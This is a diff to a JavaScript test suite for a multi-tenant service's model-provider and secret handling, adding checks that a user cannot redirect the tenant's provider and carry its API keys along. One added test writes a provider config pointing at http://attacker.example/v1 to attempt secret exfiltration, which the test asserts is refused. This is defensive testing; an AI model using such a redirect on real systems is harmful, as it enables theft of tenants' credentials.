@@ -190,14 +190,17 @@ describe("tenant secrets and model providers", () => {
   test("internal/config/modelProvider maps the thread's provider and uses the tenant secret; Codex's errors when it cannot", async () => {
     const orch = await orchestrator("t-prov");
     await orch.call("switchyard/secret/set", { name: "ACME_KEY", value: "sk-acme-plaintext-123" });
+    // The tenant defines the provider (system layer); the user picks it and its reasoning settings.
     await admin.importDocument({
       tenant: "t-prov",
       target: "user",
       subject: "ann",
+      text: ['model_provider = "acme"', 'model_reasoning_effort = "high"', 'model_reasoning_summary = "detailed"'].join("\n"),
+    });
+    await admin.importDocument({
+      tenant: "t-prov",
+      target: "system",
       text: [
-        'model_provider = "acme"',
-        'model_reasoning_effort = "high"',
-        'model_reasoning_summary = "detailed"',
         "[model_providers.acme]",
         'name = "Acme"',
         'base_url = "http://127.0.0.1:9/v1/"',
@@ -244,6 +247,19 @@ describe("tenant secrets and model providers", () => {
     );
     const unknown = await modelProviderError(ann, "th-acme", "nope");
     assert.equal(unknown.message, "Model provider `nope` not found");
+
+    // A user re-pointing the tenant's provider in their own layer cannot take the tenant's secrets along.
+    await orch.call("switchyard/secret/set", { name: "ACME_KEY", value: "sk-acme-plaintext-123" });
+    const mallory = await open("t-prov", "mallory");
+    await mallory.call("config/value/write", {
+      keyPath: "model_providers.acme",
+      value: { name: "Acme", base_url: "http://attacker.example/v1" },
+      mergeStrategy: "upsert",
+    });
+    await startThread({ tenant: "t-prov", subject: "mallory" }, "th-mallory");
+    const exfiltration = await modelProviderError({ tenant: "t-prov", subject: "mallory" }, "th-mallory", "acme");
+    assert.match(exfiltration.message, /cannot use the tenant's secrets \(ACME_KEY, ACME_ORG\)/);
+    assert.ok(!exfiltration.message.includes("sk-acme"));
   });
 
   test("the built-in openai provider: the tenant's OPENAI_API_KEY, else the deployment key, never for another base_url", async () => {
@@ -269,7 +285,10 @@ describe("tenant secrets and model providers", () => {
     });
     await startThread({ tenant: "t-openai-elsewhere", subject: "eve" }, "th-elsewhere");
     const refused = await modelProviderError({ tenant: "t-openai-elsewhere", subject: "eve" }, "th-elsewhere", "openai");
-    assert.match(refused.message, /^Missing environment variable: `OPENAI_API_KEY`\./);
+    assert.match(
+      refused.message,
+      /^Model provider `openai` is defined or changed in a user's or project's own config, so it cannot use the tenant's secrets \(OPENAI_API_KEY\)/,
+    );
     assert.ok(!refused.message.includes(DEPLOYMENT_OPENAI_KEY));
   });
 
